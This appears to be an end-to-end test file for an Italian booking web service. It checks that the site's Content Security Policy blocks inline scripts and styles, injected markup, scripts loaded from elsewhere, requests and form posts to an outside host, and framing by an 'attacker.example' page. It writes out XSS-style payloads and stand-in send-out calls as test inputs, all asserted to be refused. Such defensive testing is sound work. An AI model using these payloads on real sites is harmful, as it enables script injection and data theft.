import { letGoOfBrowser, Person } from '../person';
import { ServiceUnderTest } from '../service-under-test';

const pages = ['/prenota', '/prenota/gestisci', '/sportello', '/mediazione', '/amministrazione'];

let service: ServiceUnderTest;
beforeAll(async () => {
  service = await ServiceUnderTest.start();
});
afterAll(async () => {
  await letGoOfBrowser();
  await service.stop();
});

/** Scripts, styles and handlers that stand in a page itself. */
function inlineCode(html: string): string[] {
  return [
    ...html.matchAll(/<script(?![^>]*\ssrc=)[^>]*>/g),
    ...html.matchAll(/<style[^>]*>/g),
    ...html.matchAll(/<[^>]*\s(?:style|on\w+)\s*=[^>]*>/g),
    ...html.matchAll(/(?:href|src)\s*=\s*["']?\s*(?:javascript|data):[^>]*>/g),
  ].map(([found]) => found);
}

/** Until the browser has said that it kept to a directive of the policy. */
async function refusedFor(person: Person, directive: string): Promise<void> {
  const deadline = performance.now() + 10_000;
  const isRefused = () => person.refusedByPolicy.some((said) => said.includes(directive));
  while (!isRefused() && performance.now() < deadline) await person.page.waitForTimeout(50);
  expect(person.refusedByPolicy.join()).toContain(directive);
}

it('has no script and no style in a page itself', async () => {
  for (const page of pages) {
    const html = await (await fetch(service.url + page)).text();
    expect(html).toContain('<script src=');
    expect([page, ...inlineCode(html)]).toEqual([page]);
  }
});

it.each([
  '<script>track()</script>',
  '<script type="module">track()</script>',
  '<style>p { color: red }</style>',
  '<p style="color: red">',
  '<img src="a.png" onerror="track()">',
  '<a href="javascript:track()">',
])('would notice %s', (code) => {
  expect(inlineCode(`<html><body>${code}</body></html>`)).toHaveLength(1);
});

it('runs nothing that somebody else puts into a page, and sends nothing away', async () => {
  const person = await Person.at(service.url, { language: 'it', width: 1280 });
  await person.page.goto('/prenota');
  await person.page.getByRole('heading').first().waitFor();

  const outcomes = await person.page.evaluate(async (elsewhere) => {
    const tried = async (attack: () => unknown) => {
      try {
        await attack();
        return 'done';
      } catch (error) {
        return error instanceof Error ? error.name : 'failed';
      }
    };
    const script = document.createElement('script');
    return {
      markup: await tried(() => (document.body.innerHTML = '<img src=x onerror=alert(1)>')),
      scriptText: await tried(() => (script.textContent = 'window.stolen = true')),
      scriptFile: await tried(() => (script.src = `${elsewhere}/track.js`)),
      away: await tried(() => fetch(`${elsewhere}/collect`)),
      form: await tried(() => {
        const form = Object.assign(document.createElement('form'), { action: elsewhere });
        document.body.append(form);
        form.submit();
      }),
    };
  }, 'http://127.0.0.1:9');

  expect(outcomes).toEqual({
    markup: 'TypeError',
    scriptText: 'TypeError',
    scriptFile: 'TypeError',
    away: 'TypeError',
    form: 'done',
  });
  await refusedFor(person, 'form-action');
  expect(new URL(person.page.url()).origin).toBe(service.url);
  await person.leaves();
});

it('is shown in no page of another site', async () => {
  const person = await Person.at(service.url, { language: 'it', width: 1280 });
  await person.page.route('http://attacker.example/', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<iframe src="${service.url}/prenota"></iframe>`,
    }),
  );
  await person.page.goto('http://attacker.example/', { waitUntil: 'networkidle' });
  const [, framed] = person.page.frames();
  expect(framed?.url()).toBe('chrome-error://chromewebdata/');
  expect(await framed?.locator('oss-shell').count()).toBe(0);
  await person.leaves();
});
